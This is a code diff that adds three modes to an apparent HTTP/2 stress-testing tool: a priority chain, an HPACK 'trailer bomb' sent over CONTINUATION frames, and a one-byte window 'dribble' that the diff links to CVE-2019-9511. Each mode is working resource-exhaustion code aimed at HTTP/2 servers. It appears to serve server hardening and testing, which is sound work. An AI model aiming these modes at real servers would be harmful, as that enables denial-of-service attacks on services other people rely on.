@@ -14,8 +14,8 @@ import time
 
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
 from h2hostile import (CONTINUATION, DATA, END_HEADERS, END_STREAM, H2, HEADERS, PING,  # noqa: E402
-                       RST_STREAM, SETTINGS_INITIAL_WINDOW_SIZE, WINDOW_UPDATE, frame, literal,
-                       request_block)
+                       PRIO, RST_STREAM, SETTINGS_INITIAL_WINDOW_SIZE, WINDOW_UPDATE, frame,
+                       literal, request_block)
 
 BIG_WINDOW = (1 << 31) - 1
 
@@ -183,7 +183,57 @@ def m_hpack_bomb(c, a, t0):
     return c.outcome(t0, blocks=blocks)
 
 
+def m_priority_chain(c, a, t0):
+    """As Chrome does: each request depends exclusively on the one before (RFC 7540
+    priorities), so the second gets no DATA while the first downloads; read at --rate for
+    --seconds. The second stream must not be reset for it."""
+    c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", BIG_WINDOW - 65535)))
+
+    def prio(dep, weight):
+        return struct.pack(">IB", dep | 0x80000000, weight - 1)
+    c.send(frame(HEADERS, END_HEADERS | END_STREAM | PRIO, 1, prio(0, 256) + request_block(path=a.path)))
+    c.send(frame(HEADERS, END_HEADERS | END_STREAM | PRIO, 3, prio(1, 220) + request_block(path=a.path2)))
+    c.read_at(a.rate, a.seconds, until=lambda: 3 in c.rst or 1 in c.end_stream)
+    return c.outcome(t0, second_rst=c.rst.get(3, "-"), first_bytes=c.data.get(1, 0),
+                     second_status=c.status.get(3, "-"))
+
+
+def m_trailer_bomb(c, a, t0):
+    """Requests whose trailers are an HPACK bomb (header blocks after the body's start)."""
+    big = literal("x-bomb", "b" * 4000, incremental=True)
+    refs = bytes([0xBE]) * 16000
+    sid, n = 1, 0
+    while time.monotonic() - t0 < a.seconds and not c.closed and c.goaway is None:
+        out = frame(HEADERS, END_HEADERS, sid, request_block(path=a.path) + (big if n == 0 else b""))
+        chunks = [refs[i:i + 16384] for i in range(0, len(refs), 16384)]
+        for k, f in enumerate(chunks):
+            flags = (END_HEADERS if k == len(chunks) - 1 else 0) | (END_STREAM if k == 0 else 0)
+            out += frame(HEADERS if k == 0 else CONTINUATION, flags, sid, f)
+        if not c.send(out, timeout=2):
+            break
+        n += 1
+        sid += 2
+        c.poll(0.05)
+    c.poll(2, lambda: c.goaway is not None or c.closed)
+    return c.outcome(t0, blocks=n)
+
+
+def m_dribble(c, a, t0):
+    """A window of 0 opened one byte at a time, a frame of one byte each (CVE-2019-9511)."""
+    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(path=a.path)))
+    n = 0
+    while time.monotonic() - t0 < a.seconds and not c.closed and c.goaway is None and n < a.count:
+        c.send(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))
+        n += 1
+        c.poll(0)
+    c.poll(2, lambda: c.goaway is not None or c.closed)
+    return c.outcome(t0, window_updates=2 * n, data_bytes=c.data.get(1, 0))
+
+
 MODES = {
+    "priority-chain": (m_priority_chain, 10),
+    "trailer-bomb": (m_trailer_bomb, 10),
+    "dribble": (m_dribble, 10),
     "slow-download": (m_slow_download, 60),
     "credit-each": (m_credit_each, 60),
     "zero-window": (m_zero_window, 30),
@@ -221,9 +271,9 @@ def main():
         print("result=no_h2 alpn=%s" % (c.alpn or "none"))
         return 3
     settings = []
-    if a.mode in ("slow-download", "credit-each"):
+    if a.mode in ("slow-download", "credit-each", "priority-chain"):
         settings = [(SETTINGS_INITIAL_WINDOW_SIZE, BIG_WINDOW)]
-    elif a.mode == "zero-window":
+    elif a.mode in ("zero-window", "dribble"):
         settings = [(SETTINGS_INITIAL_WINDOW_SIZE, 0)]
     c.start(settings)
     fields = fn(c, a, t0)
